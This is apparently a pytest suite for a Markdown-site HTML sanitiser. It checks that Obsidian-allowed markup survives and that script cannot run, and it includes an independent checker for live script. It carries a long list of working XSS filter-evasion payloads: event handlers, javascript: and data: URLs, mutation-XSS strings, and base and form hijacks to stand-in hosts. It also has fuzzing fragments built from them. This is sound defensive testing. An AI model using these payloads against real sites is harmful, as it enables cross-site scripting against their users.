"""core.sanitize: nothing in a note's HTML can run, and what Obsidian allows survives.

The checker below (``live_script``) is independent of the sanitiser: it walks the output with
Python's own ``html.parser`` (which decodes entities in attribute values, as a browser does) and
reports every element, attribute or URL that could run script. tests/e2e/test_xss.py uses it on
every file of a built site.
"""

from __future__ import annotations

import json
import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mkdocs_vault_kb.core.sanitize import (
    _json_pieces,
    html_to_text,
    json_for_html,
    sanitize_html,
    unsafe_attachment,
    url_scheme,
    write_json_for_html,
)

# -- the checker -------------------------------------------------------------------------------

URL_ATTRS = {
    "href", "src", "srcset", "poster", "action", "formaction", "cite", "background", "data",
    "xlink:href", "ping", "lowsrc", "dynsrc", "codebase", "archive", "longdesc", "usemap",
    "manifest", "icon", "classid", "to", "from", "values",
}  # fmt: skip
ACTIVE_ELEMENTS = {"object", "embed", "applet", "base", "form", "frame", "frameset", "portal", "isindex"}
SAFE_DATA_IMAGE = re.compile(r"data:image/((png|jpeg|gif|webp)[;,]|svg\+xml;base64,)")  # inert in <img>
RAW_TEXT = {"iframe", "noembed", "noframes", "xmp", "textarea", "title", "plaintext"}
RAW_CONTROLS = re.compile(r"[\x00-\x20\x7f]+")


def scheme(value: str) -> str | None:
    """The scheme of a URL as a browser reads it, with every space and control character
    removed (browsers drop some of them; removing all of them only finds more schemes)."""
    m = re.match(r"([a-z][a-z0-9+.\-]*):", RAW_CONTROLS.sub("", value).lower())
    return m.group(1) if m else None


class LiveScript(HTMLParser):
    """Collects what could run in a document: script elements (except those ``allow_script``
    accepts), event handler attributes, script URLs, embedded documents."""

    def __init__(self, allow_script=lambda attrs: False, allow_element=lambda tag, attrs: False) -> None:
        super().__init__(convert_charrefs=True)
        self.allow_script = allow_script
        self.allow_element = allow_element  # the theme's own forms, for a whole page
        self.found: list[str] = []
        self.scripts: list[tuple[dict[str, str], str]] = []  # allowed scripts: attributes, text
        self._script: dict[str, str] | None = None
        self._script_text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {k: v or "" for k, v in attrs}
        if tag in RAW_TEXT:  # a browser reads no markup inside these
            self.set_cdata_mode(tag)
        if tag == "script":
            if self.allow_script(values):
                self._script, self._script_text = values, []
            else:
                self.found.append(f"<script {values}>")
        if tag in ACTIVE_ELEMENTS and not self.allow_element(tag, values):
            self.found.append(f"<{tag} {values}>")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.found.append("<meta http-equiv=refresh>")
        if tag == "iframe" and scheme(values.get("src", "")) not in (None, "http", "https"):
            self.found.append(f"<iframe src={values['src']!r}>")
        for name, value in values.items():
            self._attribute(tag, name, value)

    def _attribute(self, tag: str, name: str, value: str) -> None:
        if name.startswith("on") or name == "srcdoc":
            self.found.append(f"<{tag} {name}={value!r}>")
        elif name == "style" and re.search(r"javascript:|expression\s*\(|behavior\s*:|-moz-binding", RAW_CONTROLS.sub("", value), re.I):
            self.found.append(f"<{tag} style={value!r}>")
        elif name in URL_ATTRS:
            urls = [u.strip().split(" ")[0] for u in value.split(",")] if name == "srcset" else [value]
            for url in urls:
                s = scheme(url)
                if s in ("javascript", "vbscript", "livescript", "mocha"):
                    self.found.append(f"<{tag} {name}={value!r}>")
                elif s == "data" and not (tag in ("img", "source") and SAFE_DATA_IMAGE.match(RAW_CONTROLS.sub("", url).lower())):
                    self.found.append(f"<{tag} {name}={value[:60]!r}>")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag == "script":
            self.handle_endtag(tag)

    def handle_data(self, data: str) -> None:
        if self._script is not None:
            self._script_text.append(data)

    def handle_endtag(self, tag: str) -> None:
        if tag == "script" and self._script is not None:
            self.scripts.append((self._script, "".join(self._script_text)))
            self._script = None


def live_script(markup: str, allow_script=lambda attrs: False) -> list[str]:
    """What could run in ``markup`` (empty: nothing)."""
    parser = LiveScript(allow_script)
    parser.feed(markup)
    parser.close()
    return parser.found


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))


def elements(markup: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Tags()
    parser.feed(markup)
    parser.close()
    return parser.tags


def test_the_checker_sees_live_script():
    """The checker itself: it must report each of these, or a passing test below proves nothing."""
    for markup in [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
        '<iframe src="data:text/html,x"></iframe>',
        '<img src="data:text/html,x">',
        '<object data="x.swf"></object>',
        '<base href="https://evil.example/">',
        '<meta http-equiv="Refresh" content="0;url=javascript:alert(1)">',
        '<form action="https://evil.example/"><input></form>',
        '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
        '<div style="background:url(javascript:alert(1))">',
    ]:
        assert live_script(markup), markup
    assert live_script('<img src="data:image/png;base64,AAA"><a href="https://x.example/">x</a>') == []


# -- payloads ----------------------------------------------------------------------------------

PAYLOADS = [
    # OWASP XSS filter evasion cheat sheet style
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    '<IMG SRC="javascript:alert(\'XSS\');">',
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<IMG SRC="jav\tascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
    '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
    '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
    '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    '<a href="java\x00script:alert(1)">nul</a>',
    '<a href="&#x6A;avascript&colon;alert(1)">colon entity</a>',
    "<SCRIPT/XSS SRC=\"https://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<iframe src=http://xss.example/scriptlet.html <",
    '<svg/onload=alert("XSS")>',
    '<svg onload=alert(1)><script>alert(2)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="onload" to="alert(1)"/></svg>',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    '<BODY ONLOAD=alert(\'XSS\')>',
    "<div ONLOAD=alert(1) OnClick=alert(1)>upper case handlers</div>",
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    '<BGSOUND SRC="javascript:alert(\'XSS\');">',
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    '<STYLE>@import\'https://xss.example/xss.css\';</STYLE>',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
    '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
    '<TD BACKGROUND="javascript:alert(\'XSS\')">',
    '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
    '<DIV STYLE="width: expression(alert(\'XSS\'));">',
    '<BASE HREF="javascript:alert(\'XSS\');//">',
    '<base href="https://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">fallback</object>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<form><input type="submit" formaction="https://evil.example/"></form>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:text/html,<script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<video poster="javascript:alert(1)" src="x.mp4"></video>',
    '<video><source onerror="alert(1)"></video>',
    '<img srcset="ok.png 1x, javascript:alert(1) 2x">',
    '<img srcset="java\tscript:alert(1)">',
    '<source srcset="ok.png 1x, jav&#x09;ascript:alert(1) 2x">',
    '<a href="https://ok.example/" ping="javascript:alert(1)">ping</a>',
    '<details open ontoggle=alert(1)>',
    '<marquee onstart=alert(1)>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<title><img src=x onerror=alert(1)></title>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<template><img src=x onerror=alert(1)></template>',
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<div id="__config">{"base": "https://evil.example"}</div>',
]

#: Obsidian-allowed HTML and what MkDocs, Material, pymdown-extensions and the plugin emit: each
#: must come out meaning the same (same elements, attributes and text).
KEPT = [
    '<span class="keep" style="color: red" data-kind="kept" id="kept">kept</span>',
    "<details open><summary>Summary</summary><p>body</p></details>",
    "<p><kbd>Ctrl</kbd>+<kbd>C</kbd> H<sub>2</sub>O x<sup>2</sup> <mark>m</mark> <s>s</s> <u>u</u> <small>s</small></p>",
    '<table><thead><tr><th style="text-align: center;">a</th></tr></thead><tbody><tr><td colspan="2" rowspan="1">b</td></tr></tbody></table>',
    '<iframe src="https://www.youtube.com/embed/abc" width="560" height="315" allowfullscreen></iframe>',
    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="an inline figure">',
    '<img src="../attachments/pic.png" alt="pic" width="200" height="100" loading="lazy">',
    '<video class="vault-video" controls src="../clip.mp4"></video><audio class="vault-audio" controls src="../a.mp3"></audio>',
    '<iframe class="vault-pdf" src="../doc.pdf#page=3" title="doc.pdf" style="width:100%;height:600px" loading="lazy"></iframe>',
    '<a href="https://example.com/" title="t">x</a><a href="mailto:a@example.com">m</a><a href="obsidian://open?vault=v">o</a>',
    '<a class="vault-link" href="../Other/#heading">Other</a><span class="vault-unresolved" title="Unresolved link: [[X]]">X</span>',
    '<div class="admonition warning"><p class="admonition-title">Careful</p><p>body</p></div>',
    '<details class="question"><summary>Why?</summary><p>Because.</p></details>',
    '<div class="arithmatex">\\[x^2\\]</div><span class="arithmatex">\\(y\\)</span>',
    '<div class="language-python highlight"><pre><span></span><code><span id="__span-0-1"><a id="__codelineno-0-1" name="__codelineno-0-1" href="#__codelineno-0-1"></a><span class="kn">import</span> <span class="nn">numpy</span>\n</span></code></pre></div>',
    '<ul class="task-list"><li class="task-list-item"><label class="task-list-control"><input type="checkbox" disabled checked/><span class="task-list-indicator"></span></label> done</li></ul>',
    '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup><div class="footnote"><hr><ol><li id="fn:1"><p>Note.&#160;<a class="footnote-backref" href="#fnref:1" title="Jump back to footnote 1 in the text">&#8617;</a></p></li></ol></div>',
    '<span class="twemoji"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2A10 10 0 0 0 2 12"/></svg></span>',
    '<div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio"/><div class="tabbed-labels"><label for="__tabbed_1_1">One</label></div><div class="tabbed-content"><div class="tabbed-block"><p>1</p></div></div></div>',
    '<h2 id="a-heading">A heading<a class="headerlink" href="#a-heading" title="Permanent link">&para;</a></h2>',
    '<figure class="vault-exec-figure"><img src="../assets/vault/figures/ab12.png" alt="figure 1"></figure>',
    '<div class="vault-embed" data-embed="notes/A.md"><p><a class="vault-embed-link" href="../A/">A</a></p></div>',
    '<blockquote><p>quote</p></blockquote><hr><pre><code>code &lt;b&gt;</code></pre>',
    '<dl><dt>term</dt><dd>definition</dd></dl><abbr title="HyperText">HTML</abbr>',
    '<ol start="3"><li>three</li></ol><p>a &amp; b &lt; c</p><p>日本語 — “quotes”</p>',
]


def canonical(markup: str) -> list[tuple]:
    """Elements, attributes (sorted, values decoded) and text, as a browser reads them."""
    void = {"area", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source", "track", "wbr"}
    out: list[tuple] = []

    class Canon(HTMLParser):
        def handle_starttag(self, tag, attrs):
            out.append(("start", tag, tuple(sorted((k, v or "") for k, v in attrs))))

        def handle_startendtag(self, tag, attrs):
            self.handle_starttag(tag, attrs)
            if tag not in void:
                out.append(("end", tag))

        def handle_endtag(self, tag):
            if tag not in void:
                out.append(("end", tag))

        def handle_data(self, data):
            if out and out[-1][0] == "text":
                out[-1] = ("text", out[-1][1] + data)
            else:
                out.append(("text", data))

    parser = Canon(convert_charrefs=True)
    parser.feed(markup)
    parser.close()
    return out


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    out = sanitize_html(payload)
    assert live_script(out) == [], out
    assert not {"script", "style", "object", "embed", "base", "meta", "form", "math", "link"} & {t for t, _ in elements(out)}, out


@pytest.mark.parametrize("markup", KEPT)
def test_allowed_html_survives(markup):
    out = sanitize_html(markup)
    assert canonical(out) == canonical(markup)
    assert live_script(out) == []


def test_removed_tags_keep_their_text_and_scripts_go_with_theirs():
    out = sanitize_html("<p>before<script>alert(1)</script><object data=x>fallback</object>after</p>")
    assert canonical(out) == canonical("<p>beforefallbackafter</p>")


def test_dangerous_links_lose_their_target_and_keep_their_text():
    for href in ["javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)", " vbscript:x", "data:text/html,x"]:
        assert canonical(sanitize_html(f'<a href="{href}">text</a>')) == canonical("<a>text</a>"), href


def test_reserved_ids_are_dropped():
    """A note's element must not stand in for Material's settings or our page metadata."""
    for name in ["__config", "__search", "__palette_0", "vault-page-meta", "vault-graph"]:
        assert canonical(sanitize_html(f'<div id="{name}">x</div>')) == canonical("<div>x</div>"), name
    assert 'id="__tabbed_1_1"' in sanitize_html('<input id="__tabbed_1_1" type="radio">')


def test_data_urls_only_for_images_in_img():
    for mime in ("png", "jpeg", "gif", "webp"):
        assert f"data:image/{mime};base64" in sanitize_html(f'<img src="data:image/{mime};base64,AAAA">')
    assert "data:" not in sanitize_html('<img src="data:image/svg+xml,<svg onload=alert(1)>">')
    # an executed figure inlined as base64 SVG: an image, static in <img>, removed anywhere else
    assert "data:image/svg+xml;base64," in sanitize_html('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "data:" not in sanitize_html('<iframe src="data:image/svg+xml;base64,PHN2Zz4="></iframe>')
    assert "data:" not in sanitize_html('<a href="data:image/svg+xml;base64,PHN2Zz4=">x</a>')
    assert "data:" not in sanitize_html('<a href="data:image/png;base64,AAAA">x</a>')
    assert "data:" not in sanitize_html('<iframe src="data:image/png;base64,AAAA"></iframe>')


@pytest.mark.parametrize(
    ("url", "expected"),
    [("javascript:x", "javascript"), (" \x01JavaScript:x", "javascript"), ("java\tscr\nipt:x", "javascript"),
     ("../a:b/c", None), ("a/b", None), ("#x", None), ("https://x", "https"), ("data:image/png,x", "data")],
)  # fmt: skip
def test_url_scheme(url, expected):
    assert url_scheme(url) == expected


def test_html_to_text():
    assert html_to_text("a &lt;img src=x&gt; <b>bold</b>  &amp; b") == "a <img src=x> bold & b"


def test_json_for_html_cannot_end_a_script():
    value = {"title": "</script><script>alert(1)</script><!-- & \u2028"}
    text = json_for_html(value)
    assert "<" not in text and ">" not in text and "&" not in text and "\u2028" not in text
    import json

    assert json.loads(text) == value


_json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(alphabet=st.sampled_from("a<>&\u2028\u2029é\"\\ \n")),
    lambda inner: st.lists(inner, max_size=50) | st.dictionaries(st.text(max_size=5), inner, max_size=50),
    max_leaves=20000,
)


@settings(max_examples=60, deadline=None)
@given(_json_values)
def test_json_for_html_written_in_pieces_is_the_same_text(tmp_path_factory, value):
    path = tmp_path_factory.mktemp("json") / "graph.json"
    write_json_for_html(value, path)
    assert path.read_text(encoding="utf-8") == json_for_html(value)
    assert "".join(_json_pieces(value, run=2)) == json.dumps(value, ensure_ascii=False)  # runs of two items


def test_json_for_html_written_in_pieces_spans_many_pieces(tmp_path):
    value = {"links": [{"source": f"a<{i}>/", "target": "b&\u2028"} for i in range(20000)]}  # > 4,096 pieces
    write_json_for_html(value, tmp_path / "g.json")
    assert (tmp_path / "g.json").read_text(encoding="utf-8") == json_for_html(value)


@pytest.mark.parametrize(
    ("path", "data", "unsafe"),
    [
        ("a/page.html", b"<p>hi</p>", True),
        ("a/tool.JS", b"1", True),
        ("a/feed.xml", b"<x/>", True),
        ("a/pic.png", b"\x89PNG", False),
        ("a/doc.pdf", b"%PDF", False),
        ("a/ok.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><rect width="1" height="1" fill="red"/></svg>', False),
        ("a/s.svg", b"<svg><script>alert(1)</script></svg>", True),
        ("a/s.svg", b'<svg onload="alert(1)"></svg>', True),
        ("a/s.svg", b'<svg><a href="jav&#x09;ascript:alert(1)"><rect/></a></svg>', True),
        ("a/s.svg", b'<svg><foreignObject><body onload="x"/></foreignObject></svg>', True),
        ("a/s.svg", b"<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>", True),
        ("a/s.svg", b'<?xml-stylesheet type="text/xsl" href="x.xsl"?><svg/>', True),
    ],
)
def test_unsafe_attachment(path, data, unsafe):
    assert (unsafe_attachment(path, data) is not None) == unsafe


# -- property: random HTML-ish strings built from dangerous fragments ---------------------------

JUNK = [
    "<", ">", "</", "/>", '"', "'", "=", " ", "\t", "\n", "&#x09;", "&lt;", "&gt;", "<!--", "-->",
    "<![CDATA[", "]]>", "</style>", "</textarea>", "</noscript>", "</title>", "</math>", "</svg>", "</p>", "x",
]  # fmt: skip
TAG_NAMES = [
    "script", "SCRIPT", "img", "svg", "math", "mtext", "mglyph", "style", "iframe", "object", "embed",
    "base", "meta", "form", "textarea", "noscript", "title", "template", "xmp", "a", "p", "table",
    "select", "option", "details", "input", "button", "video", "source", "animate", "set", "use", "div",
]  # fmt: skip
ATTR_NAMES = [
    "src", "href", "xlink:href", "srcdoc", "action", "formaction", "poster", "data", "srcset", "onload",
    "ONERROR", "onclick", "ontoggle", "style", "id", "http-equiv", "content", "to", "values", "class",
]  # fmt: skip
VALUES = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)", " vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/png;base64,AA", "alert(1)", "__config", "refresh", "0;url=javascript:alert(1)",
    "url(javascript:alert(1))", "https://example.com/", "x", "<img src=x onerror=alert(1)>",
]  # fmt: skip

attribute = st.builds(
    lambda name, quote, value: f" {name}={quote}{value}{quote}",
    st.sampled_from(ATTR_NAMES), st.sampled_from(['"', "'", ""]), st.sampled_from(VALUES),
)
tag = st.builds(
    lambda name, attrs, close: f"<{name}{''.join(attrs)}{close}",
    st.sampled_from(TAG_NAMES), st.lists(attribute, max_size=3), st.sampled_from([">", "/>", " >", ""]),
)
fragment = st.one_of(tag, st.sampled_from(JUNK), st.builds(lambda n: f"</{n}>", st.sampled_from(TAG_NAMES)))


@settings(max_examples=500, deadline=None)
@given(st.lists(fragment, max_size=12))
def test_no_live_script_from_any_mix_of_fragments(parts):
    out = sanitize_html("".join(parts))
    assert live_script(out) == [], out
